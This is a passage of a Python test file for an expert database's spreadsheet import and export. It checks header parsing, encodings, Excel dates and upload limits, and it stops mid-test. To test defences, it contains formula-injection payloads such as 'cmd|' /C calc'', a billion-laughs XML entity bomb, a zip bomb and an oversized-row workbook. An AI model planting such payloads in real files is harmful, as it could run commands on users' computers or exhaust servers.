"""Spreadsheets in and out of the expert pool: pure functions on bytes, tested without an app."""

from __future__ import annotations

import csv
import io
import random
import re
import zipfile
from datetime import date, datetime, timedelta
from functools import partial
from xml.sax.saxutils import escape

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.utils import get_column_letter

from expert_pool.rules import normalize, tabular
from expert_pool.rules.tabular import COLUMNS, COLUMNS_BY_KEY, REQUIRED_COLUMNS, TableError, read_table
from expert_pool.rules.tabular import xlsx as tabular_xlsx
from ground.i18n import text_message

KEYS = [c.key for c in COLUMNS]
ZH_HEADER = [c.zh for c in COLUMNS]
EN_HEADER = [c.en for c in COLUMNS]


def expert(i: int = 0, **changes) -> dict:
    first17 = f"320102{1950 + i % 50}{1 + i % 12:02d}{1 + i % 28:02d}{i % 1000:03d}"
    row = {
        "name": f"张{i}", "gender": "女" if i % 2 else "男", "birth_year": str(1950 + i % 50),
        "id_number": first17 + normalize.id_number_check_digit(first17), "mobile": f"138{i:08d}",
        "email": f"e{i}@example.com", "organization": f"示例大学{i % 300}环境学院", "organization_type": "高等院校",
        "title": "教授", "specialties": "循环经济；清洁生产", "province": "江苏", "city": "南京",
        "recommended_by": "江苏省", "term_start": date(2024, 1, 1), "term_end": date(2026, 12, 31),
        "status": "在库", "language": "中文",
    }
    row.update(changes)
    return row


def csv_bytes(rows: list[list[object]], *, encoding: str = "utf-8", delimiter: str = ",") -> bytes:
    buf = io.StringIO()
    csv.writer(buf, delimiter=delimiter, lineterminator="\r\n").writerows(rows)
    return buf.getvalue().encode(encoding)


def error_of(data: bytes, filename: str, **kwargs) -> TableError:
    with pytest.raises(TableError) as info:
        read_table(data, filename, **kwargs)
    err = info.value
    message = text_message(err.text)  # as the import shows it: in Chinese from the catalog, or in English
    assert re.search(r"[\u4e00-\u9fff]", message.zh) and not re.search(r"[\u4e00-\u9fff]", err.text.message)
    err.zh, err.en = message.zh, message.en
    return err


# -- A workbook as Excel writes it -------------------------------------------------------------------------
# openpyxl writes every string inline; Excel and WPS use a shared-string table, style ids for dates (also
# the Chinese built-in ones openpyxl does not know), rich text with phonetic guides. This builds such a
# package by hand so the reader is tested on it.

MAIN_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
STRICT_NS = "http://purl.oclc.org/ooxml/spreadsheetml/main"
REL_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG_NS = "http://schemas.openxmlformats.org/package/2006/relationships"


OOXML_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml"
CONTENT_TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    f'<Override PartName="/xl/workbook.xml" ContentType="{OOXML_TYPE}.sheet.main+xml"/>'
    f'<Override PartName="/xl/sharedStrings.xml" ContentType="{OOXML_TYPE}.sharedStrings+xml"/>'
    f'<Override PartName="/xl/styles.xml" ContentType="{OOXML_TYPE}.styles+xml"/>{{sheets}}</Types>'
)
SHEET_TYPE = f'<Override PartName="/xl/worksheets/sheet{{i}}.xml" ContentType="{OOXML_TYPE}.worksheet+xml"/>'


def excel_like_xlsx(sheets: list[tuple[str, list[list[object] | None]]], *, date1904: bool = False,
                    date_fmt_id: int = 14, ns: str = MAIN_NS, hidden: tuple[int, ...] = ()) -> bytes:
    """``sheets`` is [(name, rows)]; row i of the list is spreadsheet row i + 1 (None: row absent).
    Values: str (shared string), date (serial with a date style), int/float, bool, None (no cell),
    ("rich", [runs], phonetic) and ("formula", formula, cached text)."""
    strings: list[str] = []
    index: dict[object, int] = {}

    def shared(key: object, xml: str) -> int:
        if key not in index:
            index[key] = len(strings)
            strings.append(xml)
        return index[key]

    epoch = date(1904, 1, 1) if date1904 else date(1899, 12, 30)
    sheet_xml = []
    for _, rows in sheets:
        out = [f'<worksheet xmlns="{ns}" xmlns:r="{REL_NS}"><dimension ref="A1"/><sheetData>']
        for r, row in enumerate(rows, start=1):
            if row is None:
                continue
            out.append(f'<row r="{r}">')
            for c, v in enumerate(row):
                ref = f"{get_column_letter(c + 1)}{r}"
                if v is None:
                    continue
                if isinstance(v, bool):
                    out.append(f'<c r="{ref}" t="b"><v>{int(v)}</v></c>')
                elif isinstance(v, date):
                    out.append(f'<c r="{ref}" s="1"><v>{(v - epoch).days}</v></c>')
                elif isinstance(v, (int, float)):
                    out.append(f'<c r="{ref}" s="2"><v>{v!r}</v></c>')
                elif isinstance(v, tuple) and v[0] == "rich":
                    runs = "".join(f"<r><rPr><b/></rPr><t>{escape(t)}</t></r>" for t in v[1])
                    i = shared(("rich", tuple(v[1]), v[2]), runs + f'<rPh sb="0" eb="1"><t>{escape(v[2])}</t></rPh>')
                    out.append(f'<c r="{ref}" t="s"><v>{i}</v></c>')
                elif isinstance(v, tuple) and v[0] == "formula":
                    out.append(f'<c r="{ref}" t="str"><f>{escape(v[1])}</f><v>{escape(v[2])}</v></c>')
                else:
                    i = shared(v, f'<t xml:space="preserve">{escape(str(v))}</t>')
                    out.append(f'<c r="{ref}" t="s"><v>{i}</v></c>')
            out.append("</row>")
        out.append("</sheetData></worksheet>")
        sheet_xml.append("".join(out))
    sst = f'<sst xmlns="{ns}">' + "".join(f"<si>{s}</si>" for s in strings) + "</sst>"
    styles = (f'<styleSheet xmlns="{ns}"><numFmts count="1"><numFmt numFmtId="176" formatCode="0.00"/>'
              f'</numFmts><cellXfs count="3"><xf numFmtId="0"/><xf numFmtId="{date_fmt_id}"/>'
              '<xf numFmtId="176"/></cellXfs></styleSheet>')
    entries = "".join(
        f'<sheet name="{escape(name)}" sheetId="{i + 1}" r:id="rId{i + 1}"'
        + (' state="hidden"' if i in hidden else "") + "/>" for i, (name, _) in enumerate(sheets))
    pr = ' date1904="1"' if date1904 else ""
    workbook = f'<workbook xmlns="{ns}" xmlns:r="{REL_NS}"><workbookPr{pr}/><sheets>{entries}</sheets></workbook>'
    n = len(sheets)
    rels = "".join(f'<Relationship Id="rId{i + 1}" Type="{REL_NS}/worksheet" Target="worksheets/sheet{i + 1}.xml"/>'
                   for i in range(n))
    rels += (f'<Relationship Id="rId{n + 1}" Type="{REL_NS}/sharedStrings" Target="sharedStrings.xml"/>'
             f'<Relationship Id="rId{n + 2}" Type="{REL_NS}/styles" Target="/xl/styles.xml"/>')
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", CONTENT_TYPES.format(sheets="".join(
            SHEET_TYPE.format(i=i + 1) for i in range(n))))
        z.writestr("_rels/.rels", f'<Relationships xmlns="{PKG_NS}"><Relationship Id="rId1" '
                   f'Type="{REL_NS}/officeDocument" Target="xl/workbook.xml"/></Relationships>')
        z.writestr("xl/workbook.xml", workbook)
        z.writestr("xl/_rels/workbook.xml.rels", f'<Relationships xmlns="{PKG_NS}">{rels}</Relationships>')
        z.writestr("xl/sharedStrings.xml", sst)
        z.writestr("xl/styles.xml", styles)
        for i, xml in enumerate(sheet_xml):
            z.writestr(f"xl/worksheets/sheet{i + 1}.xml", xml)
    return buf.getvalue()


# -- headers -------------------------------------------------------------------------------------------------

@pytest.mark.parametrize(("header", "key"), [
    ("姓名", "name"), ("Name", "name"), ("NAME", "name"), ("name", "name"), ("姓名*", "name"), ("* 姓名", "name"),
    ("身份证号（18位）", "id_number"), ("身份证号码", "id_number"), ("证件号码", "id_number"),
    ("ID number", "id_number"),
    ("id_number", "id_number"), ("ID Number *", "id_number"), ("手机号码", "mobile"), ("联系电话", "mobile"),
    ("E-mail", "email"), ("邮箱", "email"), ("Email (work)", "email"), ("单位", "organization"),
    ("所在单位", "organization"), ("专业", "specialties"), ("擅长领域", "specialties"), ("省", "province"),
    ("所在城市", "city"), ("Birth year", "birth_year"), ("出生年份【选填】", "birth_year"), ("　姓　　名　", "name"),
    ("籍贯", None), ("备注", None),
    ("Recommended by", "recommended_by"), ("Term start", "term_start"), ("语言", "language"),
])
def test_header_aliases(header, key):
    assert tabular.HEADERS.get(tabular.header_key(header)) == key


def test_required_columns():
    assert set(REQUIRED_COLUMNS) == {"name", "gender", "id_number", "mobile", "email", "organization", "title",
                                     "specialties", "province"}


def test_unknown_duplicate_and_missing_columns_are_reported_together():
    header = ["姓名", "Gender", "身份证", "手机", "邮箱", "单位", "职称", "专业领域", "籍贯", "Name"]
    err = error_of(csv_bytes([header]), "x.csv")
    assert err.code == "unknown_column"
    assert err.details == {"columns": ["籍贯"], "unknown": ["籍贯"], "duplicate": ["Name"], "missing": ["province"]}
    # the parts one after the other in the reader's punctuation; the missing column by the template's header
    assert err.zh == "表头有误（第一行应为表头，请使用导入模板）：无法识别的列：籍贯；重复的列：Name；缺少必填列：所在省份。"
    assert err.en == ("The header row is wrong (row 1 must hold the headers; use the import template): unknown "
                      "columns: 籍贯; duplicated columns: Name; missing required columns: Province.")

    err = error_of(csv_bytes([[*ZH_HEADER, "Email"]]), "x.csv")
    assert err.code == "duplicate_column" and err.details["columns"] == ["Email"]

    err = error_of(csv_bytes([["姓名", "性别"]]), "x.csv")
    assert err.code == "missing_column"
    assert err.details["columns"] == [k for k in REQUIRED_COLUMNS if k not in ("name", "gender")]


def test_optional_columns_may_be_left_out_and_columns_keep_the_files_order():
    header = list(reversed([COLUMNS_BY_KEY[k].zh for k in REQUIRED_COLUMNS]))
    table = read_table(csv_bytes([header, ["x"] * len(header)]), "x.csv")
    assert table.columns == list(reversed(REQUIRED_COLUMNS))
    assert set(table.rows[0].values) == set(REQUIRED_COLUMNS)


def test_data_under_a_blank_header_is_an_error():
    rows = [[*ZH_HEADER, ""], ["a"] * len(KEYS) + [""], ["b"] * len(KEYS) + ["stray"]]
    err = error_of(csv_bytes(rows), "x.csv")
    assert err.code == "unnamed_column" and err.details == {"cells": ["R3"], "count": 1}
    # A blank header with nothing under it (Excel's formatted but empty columns) is fine.
    assert len(read_table(csv_bytes(rows[:2]), "x.csv").rows) == 1


# -- CSV -------------------------------------------------------------------------------------------------------

def sample_rows() -> list[list[object]]:
    return [ZH_HEADER, [expert(1)[k] for k in KEYS], [], ["", " "], [expert(2)[k] for k in KEYS]]


@pytest.mark.parametrize(("encoding", "prefix", "expected"), [
    ("utf-8", b"", "utf-8"),
    ("utf-8", b"\xef\xbb\xbf", "utf-8-sig"),
    ("gb18030", b"", "gb18030"),
    ("gbk", b"", "gb18030"),
])
def test_csv_encodings(encoding, prefix, expected):
    table = read_table(prefix + csv_bytes(sample_rows(), encoding=encoding), "专家.csv")
    assert table.encoding == expected and table.source_format == "csv"
    assert table.columns == KEYS
    assert [r.number for r in table.rows] == [2, 5]  # blank rows skipped, numbers as the spreadsheet shows
    assert table.rows[0].values["name"] == "张1" and table.rows[0].values["specialties"] == "循环经济；清洁生产"
    assert table.rows[1].values["term_start"] == "2024-01-01"


def test_gb18030_with_rare_name_characters():
    rows = [ZH_HEADER, [expert(1, name="刘䶮")[k] for k in KEYS], [expert(2, name="王堃")[k] for k in KEYS]]
    table = read_table(csv_bytes(rows, encoding="gb18030"), "x.csv")
    assert [r.values["name"] for r in table.rows] == ["刘䶮", "王堃"]


@pytest.mark.parametrize("delimiter", [",", "\t", ";"])
def test_csv_delimiters_are_sniffed(delimiter):
    table = read_table(csv_bytes(sample_rows(), delimiter=delimiter), "x.txt")
    assert table.columns == KEYS and len(table.rows) == 2
    assert table.rows[0].values["id_number"] == expert(1)["id_number"]


def test_csv_values_are_stripped_and_empty_cells_are_none():
    row = [expert(1)[k] for k in KEYS]
    row[KEYS.index("city")] = "   "
    row[KEYS.index("name")] = "  李梅 "
    row[KEYS.index("organization")] = "示例大学\n环境学院"  # a line break inside a quoted cell
    data = csv_bytes([EN_HEADER, row, [expert(3)[k] for k in KEYS]])
    table = read_table(data, "x.csv")
    values = table.rows[0].values
    assert values["city"] is None and values["name"] == "李梅" and values["organization"] == "示例大学\n环境学院"
    assert [r.number for r in table.rows] == [2, 3]  # records, not lines, are counted


def test_short_csv_rows_are_padded_with_none():
    table = read_table(csv_bytes([ZH_HEADER, ["张三", "男"]]), "x.csv")
    assert table.rows[0].values["name"] == "张三" and table.rows[0].values["language"] is None


def test_header_may_follow_blank_rows():
    table = read_table(csv_bytes([[], ["", ""], ZH_HEADER, ["张三"]]), "x.csv")
    assert table.header_row == 3 and table.rows[0].number == 4


@pytest.mark.parametrize("data", [
    "姓名,性别\n张三,男\n".encode("utf-16"),  # with BOM: Excel's "Unicode text"
    "姓名,性别\n张三,男\n".encode("utf-16-le"),
    "name,gender\nzhang,m\n".encode("utf-16-le"),  # ASCII in UTF-16 is valid UTF-8 but full of NULs
    "name,gender\nzhang,m\n".encode("utf-32"),
    "氏名,性別,所属\n山田太郎,男,東京大学大学院工学系研究科\n鈴木花子,女,株式会社日立製作所\n".encode("shift_jis"),
    "姓名,性別,單位,職稱\n陳大文,男,香港理工大學環境學系,教授\n".encode("big5"),
    random.Random(1).randbytes(4000),
    b"\xef\xbb\xbf\xff\xfe broken utf-8 after a BOM",
])
def test_unsupported_encodings(data):
    err = error_of(data, "experts.csv")
    assert err.code == "encoding_unsupported"
    assert "UTF-8" in err.zh and "GB18030" in err.zh and "UTF-8" in err.en


def test_overlong_csv_cell_is_a_clear_error():
    err = error_of(csv_bytes([ZH_HEADER]) + b'"' + b"x" * 200_000 + b'"\r\n', "x.csv")
    assert err.code == "csv_malformed" and err.details == {"row": 2}


@pytest.mark.parametrize("data", [b"", b"   \r\n  ", b"\xef\xbb\xbf", b",,,\r\n,,\r\n"])
def test_empty_files(data):
    assert error_of(data, "x.csv").code == "file_empty"


def test_header_only_file_has_no_rows():
    table = read_table(csv_bytes([ZH_HEADER]), "x.csv")
    assert table.columns == KEYS and table.rows == []


def test_too_many_rows():
    rows = [ZH_HEADER] + [[f"张{i}"] for i in range(6)]
    assert len(read_table(csv_bytes(rows), "x.csv", max_rows=6).rows) == 6
    err = error_of(csv_bytes(rows), "x.csv", max_rows=5)
    assert err.code == "too_many_rows" and err.details == {"max_rows": 5}
    assert tabular.DEFAULT_MAX_ROWS == 20_000


def test_too_many_physical_rows_even_if_blank():
    rows: list[list[object] | None] = [ZH_HEADER, ["张三"]] + [None] * 100 + [["李四"]]
    err = error_of(excel_like_xlsx([("Sheet1", rows)]), "x.xlsx", max_rows=10)
    assert err.code == "too_many_rows" and "blank" in err.en


# -- file types ------------------------------------------------------------------------------------------------

PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504


def zip_of(files: dict[str, str]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for name, text in files.items():
            z.writestr(name, text)
    return buf.getvalue()


@pytest.mark.parametrize(("data", "filename", "code"), [
    (PNG, "experts.xlsx", "file_not_xlsx"),
    (csv_bytes(sample_rows()), "experts.xlsx", "file_not_xlsx"),  # a CSV renamed .xlsx
    (b"PK\x03\x04 truncated zip", "experts.xlsx", "file_not_xlsx"),
    (zip_of({"word/document.xml": "<w/>"}), "experts.xlsx", "file_not_xlsx"),  # a .docx renamed
    (zip_of({"a.txt": "x"}), "experts.xlsx", "file_not_xlsx"),
    (zip_of({"mimetype": "application/vnd.oasis.opendocument.spreadsheet"}), "experts.ods", "file_not_xlsx"),
    (OLE, "experts.xls", "file_xls_unsupported"),
    (OLE, "experts.xlsx", "file_xls_unsupported"),  # an .xls renamed .xlsx
    (OLE, "experts", "file_xls_unsupported"),
    ("<html><table><tr><td>姓名</td></tr></table></html>".encode(), "export.xls", "file_xls_unsupported"),
    (OLE + "EncryptionInfo".encode("utf-16-le"), "experts.xlsx", "file_encrypted"),
])
def test_file_type_errors(data, filename, code):
    err = error_of(data, filename)
    assert err.code == code
    if code == "file_xls_unsupported":
        assert ".xlsx" in err.zh and ".xlsx" in err.en


def test_content_is_sniffed_when_the_name_says_nothing():
    xlsx = tabular.write_xlsx(KEYS, [expert(1)], "zh")
    for name in ("upload", "experts.csv", "experts.dat", "experts.XLSX"):
        table = read_table(xlsx, name)
        assert table.source_format == "xlsx" and table.rows[0].values["name"] == "张1"
    assert read_table(csv_bytes(sample_rows()), "upload").source_format == "csv"


# -- XLSX ------------------------------------------------------------------------------------------------------

def test_write_xlsx_then_read_table_gives_the_same_values():
    rows = [expert(i) for i in range(1, 6)]
    rows[0].update(name="=HYPERLINK(\"http://evil\",\"click\")", city="+cmd|' /C calc'!A0", status="@SUM(1)",
                   organization="-2+3", recommended_by="\tTab", language="\rCR")
    rows[1].update(name="O'Brien 李", city=None, specialties="a；b、c")
    data = tabular.write_xlsx(KEYS, rows, "zh")
    table = read_table(data, "experts.xlsx")
    assert table.source_format == "xlsx" and table.sheet == "专家" and table.columns == KEYS
    assert [r.number for r in table.rows] == [2, 3, 4, 5, 6]
    for row, written in zip(table.rows, rows, strict=True):
        assert row.values == {k: (v.strip() or None) if isinstance(v, str) else v for k, v in written.items()}


def test_write_xlsx_neutralises_formulas_and_formats_the_sheet():
    rows = [expert(1, name="=1+1", city="@cmd", organization=-5, birth_year=1970, term_end=None)]
    data = tabular.write_xlsx(KEYS, rows, "en")
    ws = load_workbook(io.BytesIO(data)).active
    assert ws.title == "Experts" and ws.freeze_panes == "A2"
    assert [c.value for c in ws[1]] == EN_HEADER and all(c.font.b for c in ws[1])
    name, city, org = ws.cell(2, KEYS.index("name") + 1), ws.cell(2, KEYS.index("city") + 1), ws.cell(2, 7)
    assert (name.value, name.data_type) == ("'=1+1", "s")  # text, never a formula
    assert city.value == "'@cmd" and (org.value, org.data_type) == (-5, "n")  # numbers are not mangled
    assert ws.cell(2, KEYS.index("term_start") + 1).value == datetime(2024, 1, 1)
    assert ws.cell(2, KEYS.index("term_start") + 1).number_format == "yyyy-mm-dd"
    widths = [ws.column_dimensions[get_column_letter(i + 1)].width for i in range(len(KEYS))]
    assert all(8 <= w <= 60 for w in widths)
    assert widths[KEYS.index("id_number")] > widths[KEYS.index("gender")]


def test_write_xlsx_drops_characters_xml_cannot_carry():
    data = tabular.write_xlsx(["name"], [{"name": "张\x00三\x07"}, {"name": "x" * 40_000}], "zh")
    ws = load_workbook(io.BytesIO(data)).active
    assert ws["A2"].value == "张三" and len(ws["A3"].value) == 32_767


def test_excel_written_workbook():
    """Shared strings, rich text with phonetic guides, numbers where text was meant, date styles."""
    header = [*ZH_HEADER[:3], ("rich", ["身份证号", "*"], "シン"), *ZH_HEADER[4:]]
    row = [expert(1)[k] for k in KEYS]
    row[KEYS.index("name")] = ("rich", ["李", "梅"], "リ")
    row[KEYS.index("birth_year")] = 1975
    row[KEYS.index("mobile")] = 13800138000
    row[KEYS.index("id_number")] = 1.10105199001011e17  # an ID typed into a General cell
    row[KEYS.index("city")] = ("formula", 'LEFT("南京市",2)', "南京")
    row[KEYS.index("status")] = True
    row[KEYS.index("language")] = 2.5
    data = excel_like_xlsx([("Sheet1", [header, None, row, [None, "  "], [expert(4)[k] for k in KEYS]])])
    table = read_table(data, "experts.xlsx")
    assert table.sheet == "Sheet1" and table.columns == KEYS and [r.number for r in table.rows] == [3, 5]
    values = table.rows[0].values
    assert values["name"] == "李梅" and values["birth_year"] == "1975" and values["mobile"] == "13800138000"
    assert values["id_number"] == "110105199001011000"  # as Excel shows it; the ID check then explains
    assert values["city"] == "南京" and values["status"] == "TRUE" and values["language"] == "2.5"
    assert values["term_start"] == date(2024, 1, 1) and values["term_end"] == date(2026, 12, 31)


@pytest.mark.parametrize(("date1904", "fmt_id"), [(False, 14), (False, 31), (False, 57), (True, 14), (True, 31)])
def test_excel_date_systems_and_chinese_date_formats(date1904, fmt_id):
    # openpyxl knows format 14 and returns a datetime; 31 (yyyy"年"m"月"d"日") and 57 are Chinese built-ins it
    # does not know, so it returns the serial and read_table converts it in the date columns.
    data = excel_like_xlsx([("Sheet1", [ZH_HEADER, [expert(1)[k] for k in KEYS]])], date1904=date1904,
                           date_fmt_id=fmt_id)
    values = read_table(data, "x.xlsx").rows[0].values
    assert values["term_start"] == date(2024, 1, 1) and values["term_end"] == date(2026, 12, 31)


def test_bare_numbers_in_date_columns():
    """A number in a date column of an XLSX file is a date serial if it lands in 1900-2199; anything else
    (and any number in a CSV file, or in another column) is left for the date check to reject."""
    cols = ["birth_year", "term_start", "term_end"]
    cells = [[1975, 45292, 46387.75], [45292, 0, -1], [None, 20240131, 2958466], [None, True, 1e300]]

    def row(i: int, values: list[object]) -> list[object]:
        return [dict(expert(i), **dict(zip(cols, values, strict=True)))[k] for k in KEYS]

    rows: list[list[object] | None] = [ZH_HEADER] + [row(i, v) for i, v in enumerate(cells)]
    for date1904 in (False, True):
        table = read_table(excel_like_xlsx([("Sheet1", rows)], date1904=date1904), "x.xlsx")
        start = date(2024, 1, 1) + timedelta(days=1462 if date1904 else 0)  # 1904 system: 1462 days later
        assert [[r.values[k] for k in cols] for r in table.rows] == [
            ["1975", start, start + timedelta(days=1095)],
            ["45292", "0", "-1"],
            [None, "20240131", "2958466"],
            [None, "TRUE", "1" + "0" * 300],  # overflows any date; shown as Excel shows the number
        ]
    table = read_table(csv_bytes([ZH_HEADER, row(0, [1975, 45292, "2026-12-31"])]), "x.csv")
    assert [table.rows[0].values[k] for k in cols] == ["1975", "45292", "2026-12-31"]


def test_strict_ooxml_is_refused():
    # openpyxl finds the sheets of a Strict OOXML workbook but reads no cells from them; rather than "the file
    # contains no data", read_table says it is not an .xlsx workbook it can read (save it as one in Excel).
    data = excel_like_xlsx([("Sheet1", [ZH_HEADER, [expert(1)[k] for k in KEYS]])], ns=STRICT_NS)
    assert error_of(data, "x.xlsx").code == "file_not_xlsx"


def test_sheet_named_experts_wins_and_hidden_sheets_are_skipped():
    other = [["说明"], ["请填写专家表"]]
    data_rows = [EN_HEADER, [expert(7)[k] for k in KEYS]]
    for sheets, hidden, expected in [
        ([("说明", other), ("专家", data_rows)], (), "专家"),
        ([("Notes", other), ("experts", data_rows)], (), "experts"),
        ([("lists", other), ("Sheet2", data_rows)], (0,), "Sheet2"),
    ]:
        table = read_table(excel_like_xlsx(sheets, hidden=hidden), "x.xlsx")
        assert table.sheet == expected and table.rows[0].values["name"] == "张7"


def test_openpyxl_written_workbook_values():
    wb = Workbook()
    ws = wb.active
    ws.append(ZH_HEADER)
    ws.append([expert(1)[k] for k in KEYS])
    ws.append([])
    ws.append([None] * 5 + ["x@example.com", None, 3.25, -7, datetime(2024, 5, 6, 7, 8), True])
    ws["C6"] = "=1+1"  # a formula without a cached value reads as empty, as with data_only=True
    ws["A7"] = "  spaced  "
    buf = io.BytesIO()
    wb.save(buf)
    table = read_table(buf.getvalue(), "x.xlsx")
    assert table.sheet == "Sheet" and [r.number for r in table.rows] == [2, 4, 7]
    assert table.rows[0].values["term_end"] == date(2026, 12, 31)
    values = table.rows[1].values
    assert values["email"] == "x@example.com" and values["organization"] is None
    assert values["organization_type"] == "3.25" and values["title"] == "-7"
    assert values["specialties"] == date(2024, 5, 6) and values["province"] == "TRUE"
    assert table.rows[2].values == dict.fromkeys(KEYS) | {"name": "spaced"}


def test_corrupt_sheet_xml_is_file_not_xlsx():
    good = excel_like_xlsx([("Sheet1", [ZH_HEADER, [expert(1)[k] for k in KEYS]])])
    src = zipfile.ZipFile(io.BytesIO(good))
    files = {name: src.read(name).decode() for name in src.namelist()}
    files["xl/worksheets/sheet1.xml"] = files["xl/worksheets/sheet1.xml"][:-40]
    assert error_of(zip_of(files), "x.xlsx").code == "file_not_xlsx"


def test_entity_expansion_in_sheet_xml_is_refused():
    good = excel_like_xlsx([("Sheet1", [ZH_HEADER, [expert(1)[k] for k in KEYS]])])
    src = zipfile.ZipFile(io.BytesIO(good))
    files = {name: src.read(name).decode() for name in src.namelist()}
    entities = "".join(f'<!ENTITY a{i + 1} "{f"&a{i};" * 10}">' for i in range(8))
    files["xl/worksheets/sheet1.xml"] = (f'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a0 "lol">{entities}]>'
                                         + files["xl/worksheets/sheet1.xml"].replace(
                                             "</sheetData>", '<row r="3"><c r="A3" t="inlineStr"><is><t>&a8;</t>'
                                                             "</is></c></row></sheetData>"))
    # openpyxl parses with the standard library's expat (2.4.1 and later stop "billion laughs" expansion
    # early); if defusedxml is installed openpyxl uses it instead, which refuses any entity declaration.
    assert error_of(zip_of(files), "x.xlsx").code == "file_not_xlsx"


def test_zip_bomb_is_refused(monkeypatch):
    data = excel_like_xlsx([("Sheet1", [ZH_HEADER] + [[expert(i)[k] for k in KEYS] for i in range(50)])])
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        unpacked = sum(info.file_size for info in zf.infolist())
    monkeypatch.setattr(tabular_xlsx, "XLSX_MAX_UNPACKED_BYTES", unpacked)
    assert len(read_table(data, "x.xlsx").rows) == 50
    monkeypatch.setattr(tabular_xlsx, "XLSX_MAX_UNPACKED_BYTES", unpacked - 1)
    assert error_of(data, "x.xlsx").code == "file_too_large"


# -- bounds before parsing (red-team item 5) ------------------------------------------------------------------

def wide_row_workbook(cells: int, *, dimension: bool = True, numbered: bool = False) -> bytes:
    """A workbook whose first sheet has the header and then one row of ``cells`` cells (the red team's 229 KB
    file had 2,000,000 of them and tied a worker up for 50 s and 2 GB)."""
    good = zipfile.ZipFile(io.BytesIO(excel_like_xlsx([("Sheet1", [ZH_HEADER])])))
    files = {name: good.read(name) for name in good.namelist()}
    body = (b"".join(b'<c r="%s2"><v>1</v></c>' % get_column_letter(1 + i % 16384).encode() for i in range(cells))
            if numbered else b"<c><v>1</v></c>" * cells)
    sheet = files["xl/worksheets/sheet1.xml"]
    if dimension:
        sheet = sheet.replace(b"<sheetData>", b'<dimension ref="A1:XFD2"/><sheetData>', 1)
    files["xl/worksheets/sheet1.xml"] = sheet.replace(b"</sheetData>", b'<row r="2">' + body + b"</row></sheetData>")
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, content in files.items():
            z.writestr(name, content)
    return buf.getvalue()


@pytest.fixture
def never_parsed(monkeypatch):
    """Refusals must come before openpyxl sees the file; count what the checks decompress."""
    read = {"bytes": 0}
    original = zipfile.ZipExtFile.read

    def counting_read(self, n=-1):
        out = original(self, n)
        read["bytes"] += len(out)
        return out

    def no_parse(*args, **kwargs):
        raise AssertionError("openpyxl was asked to parse a file the checks should have refused")

    monkeypatch.setattr(zipfile.ZipExtFile, "read", counting_read)
    monkeypatch.setattr(tabular_xlsx, "load_workbook", no_parse)
    return read


def test_a_two_million_cell_row_is_refused_from_the_declared_dimension(never_parsed):
    data = wide_row_workbook(2_000_000)
    assert len(data) < 1_000_000  # small on the wire ...
    never_parsed["bytes"] = 0
    err = error_of(data, "x.xlsx")
    assert err.code in ("too_many_columns", "file_too_large")  # ... refused by its dimension or its ratio
    assert never_parsed["bytes"] <= 2 * tabular_xlsx._SCAN_CHUNK  # a prefix at most, never the 30 MB of XML


def test_a_wide_row_without_a_dimension_is_refused_at_its_65th_cell(never_parsed, monkeypatch):
    # Ratio check aside (random-looking XML compresses less), the cell count stops at the first wide row.
    monkeypatch.setattr(tabular_xlsx, "XLSX_MAX_RATIO", 10**9)
    data = wide_row_workbook(2_000_000, dimension=False)
    never_parsed["bytes"] = 0
    err = error_of(data, "x.xlsx")
    assert err.code == "too_many_columns" and "64" in err.zh and "64" in err.en
    assert err.details == {"max_columns": tabular_xlsx.XLSX_MAX_COLUMNS}
    assert never_parsed["bytes"] <= 2 * tabular_xlsx._SCAN_CHUNK
    # Namespaced tags and numbered cells are counted as well.
    assert error_of(wide_row_workbook(200, dimension=False, numbered=True), "x.xlsx").code == "too_many_columns"


def test_a_zip_bomb_is_refused_from_the_central_directory(never_parsed):
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as z:
        good = zipfile.ZipFile(io.BytesIO(excel_like_xlsx([("Sheet1", [ZH_HEADER])])))
        for name in good.namelist():
            z.writestr(name, good.read(name))
        z.writestr("xl/media/padding.xml", b" " * 50_000_000)  # 50 MB of nothing, ~50 KB compressed
    never_parsed["bytes"] = 0
    err = error_of(bomb.getvalue(), "x.xlsx")
    assert err.code == "file_too_large"
    assert never_parsed["bytes"] == 0  # decided from the zip's directory alone


def test_too_many_cells_in_all_is_refused_before_parsing(never_parsed):
    rows = [ZH_HEADER] + [[expert(i)[k] for k in KEYS] for i in range(80)]
    data = excel_like_xlsx([("Sheet1", rows)])
    never_parsed["bytes"] = 0
    err = error_of(data, "x.xlsx", max_rows=10)  # 81 x 17 cells > max(1,000, 11 x 32)
    assert err.code == "too_many_cells" and err.details["max_cells"] == 1_000


def test_honest_workbooks_pass_the_bounds():
    rows = [ZH_HEADER] + [[expert(i)[k] for k in KEYS] for i in range(50)]
    assert len(read_table(excel_like_xlsx([("Sheet1", rows)]), "x.xlsx").rows) == 50
    assert len(read_table(tabular.write_xlsx(KEYS, [expert(i) for i in range(50)], "zh"), "x.xlsx").rows) == 50


# -- CSV out ---------------------------------------------------------------------------------------------------

def test_write_csv_has_a_bom_and_chinese_or_english_headers():
    data = tabular.write_csv(KEYS, [expert(1)], "zh")
    assert data.startswith(b"\xef\xbb\xbf") and b"\r\n" in data
    assert data[3:].decode().splitlines()[0] == ",".join(ZH_HEADER)
    assert tabular.write_csv(KEYS, [], "en")[3:].decode().strip() == ",".join(EN_HEADER)


def test_write_csv_neutralises_formula_injection():
    row = {"name": "=cmd|' /C calc'!A0", "gender": "+1", "birth_year": -5, "id_number": "-x", "mobile": "@a",
